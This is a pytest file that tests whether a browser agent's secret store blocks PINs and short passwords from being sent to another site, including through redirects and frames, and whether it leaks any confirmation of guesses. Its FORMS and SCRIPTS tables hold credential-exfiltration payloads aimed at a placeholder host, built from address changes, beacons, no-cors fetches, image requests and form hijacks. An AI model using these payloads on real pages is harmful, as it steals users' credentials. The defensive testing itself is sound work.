"""Codes, PINs and short passwords leave their site by no form, and no guess at one is confirmed."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from stockade.policy.principal import Principal, Role
from tests.support.asking import page_says
from tests.support.callers import Caller
from tests.support.site import Request, Response, Site
from tests.support.waiting import until

CODES = {"PIN": "482913", "SHORT": "kx7qwz"}
GUESSES = {"PIN": ("482912", "117733"), "SHORT": ("kx7qwy", "k1x2q3")}


@pytest.fixture
async def keeper(caller: Caller) -> Caller:
    """An agent of a tenant whose operator keeps a PIN and a short password for one site."""
    tenant = f"tenant-of-{caller.principal.id}"
    operator = Principal("op", tenant=tenant, role=Role.OPERATOR)
    for name, value in CODES.items():
        await caller.kernel.secrets.keep(operator, name, value, [caller.site.url("")])
    for site in (caller.site, caller.site.other):
        site.page("/in", "<title>In</title>Welcome")
    caller.site.route("/on", _send_on(caller.site.other))
    caller.site.page("/twice", "", status=302, headers={"Location": "/on"})
    return replace(caller, principal=replace(caller.principal, tenant=tenant))


def _send_on(other: Site) -> Any:
    """A server that sends on what it was sent, with the status that it is asked for."""

    async def answer(request: Request) -> Response:
        given = request.params | request.form
        status = int(given.get("status", "302"))
        query = f"?{request.query}" if request.query else ""
        if "as" in given:
            query = f"?{given['as']}={given.get('pw', '')}"
        return Response("", status, headers={"Location": other.url(f"/in{query}")})

    return answer


def form(action: str, fields: str = "", method: str = "get", **attributes: str) -> str:
    said = " ".join(f'{name}="{value}"' for name, value in attributes.items())
    button = "" if "id=b" in fields else "<button id=b>Go</button>"
    return (
        f'<form id=f method={method} action="{action}" {said}><input type=password name=pw id=pw>'
        f"{fields}{button}</form>"
    )


def hidden(name: str, value: str) -> str:
    return f"<input type=hidden name={name} value={value}>"


def carried(site: Site, value: str) -> list[str]:
    texts = [f"{each.path}?{each.query} {each.headers} {each.body!r}" for each in site.requests]
    return [text for text in texts if value in text]


FORMS = {
    "by GET": form("OTHER/in"),
    "by POST": form("OTHER/in", method="post"),
    "by the button": form("/in").replace("<button", '<button formaction="OTHER/in"'),
    "into a new tab": form("OTHER/in", target="_blank"),
    "into a new tab by the button": form("/in").replace(
        "<button", '<button formaction="OTHER/in" formtarget=_blank'
    ),
    "into a tab with a name": form("OTHER/in", target="there"),
    "by POST into a new tab": form("OTHER/in", method="post", target="_blank"),
    "into a frame": form("OTHER/in", target="there") + "<iframe name=there></iframe>",
    "into a frame of the other site": form("OTHER/in", target="there")
    + "<iframe name=there src=OTHER/in></iframe>",
    "without a referrer": "<meta name=referrer content=no-referrer>" + form("OTHER/in"),
    "by a script": form(
        "/in",
        fields="<button type=button id=b onclick='f.action=`OTHER/in`;f.submit()'>Go</button>",
    ),
    "by a script that asks for it": form(
        "OTHER/in", fields="<button type=button id=b onclick='f.requestSubmit()'>Go</button>"
    ),
    "by a script, later": form(
        "OTHER/in",
        fields="<button type=button id=b onclick='setTimeout(() => f.submit(), 1)'>Go</button>",
    ),
    "backwards": form("OTHER/in")
    + "<script>f.onformdata = (e) => e.formData.set('pw', [...e.formData.get('pw')].reverse().join(''))</script>",
    "copied into another form": """<input type=password id=pw oninput="h.value = value">
        <form action=OTHER/in><input type=hidden name=h id=h><button id=b>Go</button></form>""",
    "sent on by 302": form("/on"),
    "sent on by 303": form("/on", hidden("status", "303")),
    "sent on by 307": form("/on", hidden("status", "307")),
    "sent on by 307 with a body": form("/on", hidden("status", "307"), method="post"),
    "sent on by 308 with a body": form("/on", hidden("status", "308"), method="post"),
    "sent on under another name": form("/on", hidden("as", "token")),
    "sent on in the address": form("/on", hidden("as", "token"), method="post"),
    "sent on into a new tab": form("/on", target="_blank"),
}


WITHOUT_NUMBERS = (
    "by GET",
    "by POST",
    "into a new tab",
    "into a new tab by the button",
    "sent on by 302",
    "sent on by 307 with a body",
    "sent on under another name",
)
"""Where it is not the digits that a request is known by."""


@pytest.mark.parametrize(
    ("way", "name"),
    [*((way, "PIN") for way in FORMS), *((way, "SHORT") for way in WITHOUT_NUMBERS)],
)
async def test_no_form_takes_one_to_another_site(keeper: Caller, way: str, name: str) -> None:
    other = keeper.site.other
    await keeper.show(FORMS[way].replace("OTHER", other.url("")))
    await keeper.ok("fill", selector="#pw", value=f"<{name}>")
    told = await keeper.refused("click", selector="#b")
    assert told["code"] == "secret_refused"
    assert "was not sent" in told["error"]
    assert CODES[name] not in str(told)
    assert carried(other, CODES[name]) == []
    assert carried(other, CODES[name][::-1]) == []


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
@pytest.mark.parametrize("target", ["_self", "_top", "beside"])
async def test_nor_does_one_of_a_frame(keeper: Caller, target: str, host: str) -> None:
    other = keeper.site.other
    away = other.url("/in", host=host)
    keeper.site.page("/framed", form(away, target=target))
    other.page(
        "/outer",
        f"<iframe src='{keeper.site.url('/framed')}'></iframe><iframe name=beside></iframe>",
    )
    await keeper.ok("navigate", url=other.url("/outer", host=host))
    await keeper.ok("fill", selector="#pw", value="<PIN>")
    told = await keeper.refused("click", selector="#b")
    assert told["code"] == "secret_refused"
    assert carried(other, CODES["PIN"]) == []


async def test_nor_does_enter(keeper: Caller) -> None:
    await keeper.show(form(keeper.site.other.url("/in")))
    await keeper.ok("fill", selector="#pw", value="<PIN>")
    told = await keeper.refused("press", selector="#pw", key="Enter")
    assert told["code"] == "secret_refused"
    assert carried(keeper.site.other, CODES["PIN"]) == []


async def test_it_goes_where_it_belongs(keeper: Caller) -> None:
    """And what its site answers may lead anywhere, as a login at one that vouches for it does."""
    back = keeper.site.other.url("/in?code=d81e0c&state=482914")

    async def vouch(request: Request) -> Response:
        return Response("", 302, headers={"Location": back})

    keeper.site.route("/login", vouch)
    for method in ("get", "post"):
        given = hidden("redirect_uri", keeper.site.other.url("/in")) + hidden("user", "webapp")
        await keeper.show(form("/login", given, method=method))
        await keeper.ok("fill", selector="#pw", value="<PIN>")
        await keeper.ok("click", selector="#b")
        assert "Welcome" in await keeper.text("snapshot")
    assert len(keeper.site.asked("/login")) == 2
    assert len(keeper.site.other.asked("/in")) == 2


SCRIPTS = {
    "an address": "location.href = 'OTHER/in?pin=' + pw.value",
    "an address in base64": "location.href = 'OTHER/in?' + btoa(JSON.stringify({pin: pw.value}))",
    "a new tab": "window.open('OTHER/in?pin=' + pw.value)",
    "a new tab, then its address": "const w = window.open(); w.location = 'OTHER/in?pin=' + pw.value",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'OTHER/in?' + pw.value}))",
    "an image": "new Image().src = 'OTHER/in/' + pw.value + '.png'",
    "a beacon": "navigator.sendBeacon('OTHER/in', pw.value)",
    "a request": "fetch('OTHER/in', {method: 'POST', mode: 'no-cors', body: JSON.stringify({p: +pw.value})})",
    "a request, once it is gone": "fetch('OTHER/in?a', {mode: 'no-cors'}).finally(() => fetch('OTHER/in?' + pw.value, {mode: 'no-cors'}))",
}


@pytest.mark.parametrize("way", SCRIPTS)
async def test_scripts_send_no_number_like_it(keeper: Caller, way: str) -> None:
    """Whatever number it is: one of another document goes."""
    other = keeper.site.other
    code = SCRIPTS[way].replace("OTHER", other.url(""))
    page = f"""<input type=password id=pw><input id=n>
        <button id=b onclick="{code}; document.title = 'sent'">Go</button>"""
    for guess in (CODES["PIN"], GUESSES["PIN"][0]):
        await keeper.show(page.replace("pw.value", "(n.value || pw.value)"))
        await keeper.ok("fill", selector="#pw", value="<PIN>")
        if guess != CODES["PIN"]:
            await keeper.ok("fill", selector="#n", value=guess)
        await keeper.reply("click", selector="#b")
        await until(lambda: page_says(keeper, "() => document.title === 'sent'"))
        await page_says(
            keeper, f"() => fetch('{other.url('/in?last')}', {{mode: 'no-cors'}}).then(() => true)"
        )
        for value in (guess, "eyJwaW4i"):
            assert carried(other, value) == []


async def test_scripts_send_numbers_once_no_field_has_it(keeper: Caller) -> None:
    """A page that goes on after a login without another document."""
    other = keeper.site.other
    await keeper.show(
        f"""<div id=login><input type=password id=pw><button id=b onclick="login.remove();
        fetch('{other.url("/in?order=117733")}', {{mode: 'no-cors'}})">Go</button></div>"""
    )
    await keeper.ok("fill", selector="#pw", value="<PIN>")
    await keeper.ok("click", selector="#b")
    await other.wait_asked("/in")
    assert len(carried(other, "117733")) == 1


async def test_a_page_around_it_sends_what_is_its_own(keeper: Caller) -> None:
    """A shop whose bank asks for the PIN in a frame."""
    other = keeper.site.other
    keeper.site.page("/bank", form("/in", method="post"))
    other.page(
        "/shop",
        f"""<iframe src="{keeper.site.url("/bank")}"></iframe>
        <form action=/in method=post><input type=hidden name=order value=117733>
        <button id=pay>Pay</button></form><button id=ask onclick="fetch('/in?order=117734')">Ask</button>""",
    )
    await keeper.ok("navigate", url=other.url("/shop"))
    await keeper.ok("fill", selector="#pw", value="<PIN>")
    await keeper.ok("click", selector="#ask")
    await other.wait_asked("/in")
    assert len(carried(other, "117734")) == 1
    await keeper.ok("click", selector="#pay")
    assert len(carried(other, "117733")) == 1


# --- guesses --------------------------------------------------------------------------------------

WAYS_TO_TRY = {
    "a form by GET": "<form action=OTHER/in><input name=q id=q><button id=b>Go</button></form>",
    "a form by POST": "<form action=OTHER/in method=post><textarea name=q id=q></textarea><button id=b>Go</button></form>",
    "a form in a new tab": "<form action=OTHER/in target=_blank><input name=q id=q><button id=b>Go</button></form>",
    "a form that is sent on": "<form action=/on><input name=q id=q><button id=b>Go</button></form>",
    "a link": "<input id=q oninput='a.href = `OTHER/in?q=` + value'><a id=a><button id=b>Go</button></a>",
    "a link in a new tab": "<input id=q oninput='b.href = `OTHER/in?q=` + value'><a id=b target=_blank>Go</a>",
    "an address": "<input id=q><button id=b onclick='location = `OTHER/in?q=` + q.value'>Go</button>",
}


@pytest.mark.parametrize(
    ("way", "name"), [*((way, "PIN") for way in WAYS_TO_TRY), ("a form by POST", "SHORT")]
)
async def test_what_is_stopped_confirms_no_guess(keeper: Caller, way: str, name: str) -> None:
    other = keeper.site.other
    page = f"<input type=password id=pw>{WAYS_TO_TRY[way]}".replace("OTHER", other.url(""))
    said = set()
    for guess in (CODES[name], *GUESSES[name]):
        other.requests.clear()
        await keeper.show(page)
        await keeper.ok("fill", selector="#pw", value=f"<{name}>")
        await keeper.ok("fill", selector="#q", value=guess)
        reply = await keeper.reply("click", selector="#b")
        code = reply.error.code if reply.error is not None else ""
        said.add((reply.ok, code, len(carried(other, guess))))
    assert len(said) == 1, said


@pytest.mark.parametrize("name", CODES)
async def test_links_and_addresses_that_a_caller_chooses_are_as_they_were(
    keeper: Caller, name: str
) -> None:
    other = keeper.site.other
    for guess in (CODES[name], *GUESSES[name]):
        links = "".join(
            f"<a id=a{n} {extra} href='{other.url(f'/in?{n}={guess}')}'>Go</a>"
            for n, extra in enumerate(["", "target=_blank"])
        )
        await keeper.show(f"<input type=password id=pw>{links}")
        await keeper.ok("fill", selector="#pw", value=f"<{name}>")
        await keeper.ok("click", selector="#a1")
        await keeper.ok("click", selector="#a0")
        await keeper.show(f"<input type=password id=pw>{links}")
        await keeper.ok("fill", selector="#pw", value=f"<{name}>")
        await keeper.ok("navigate", url=other.url(f"/in?2={guess}"))
        assert len(carried(other, f"={guess}")) == 3
        other.requests.clear()
